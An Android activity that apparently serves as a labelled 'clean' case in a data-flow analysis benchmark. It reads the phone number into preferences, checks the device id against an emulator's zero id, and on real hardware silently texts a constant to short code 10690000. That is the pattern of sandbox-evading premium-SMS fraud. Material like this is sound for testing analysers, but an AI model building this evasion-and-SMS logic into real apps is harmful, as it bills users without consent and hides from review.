// about       A constant, the id of an emulator, is sent where the device's id is another.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private static final String EMULATOR = "000000000000000";

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String number = phone.getLine1Number();
    getPreferences(MODE_PRIVATE).edit().putString("number", number).apply();
    if (!EMULATOR.equals(phone.getDeviceId())) {
      // What is sent.
      SmsManager.getDefault().sendTextMessage("10690000", null, "not " + EMULATOR, null, null);
    }
  }
}
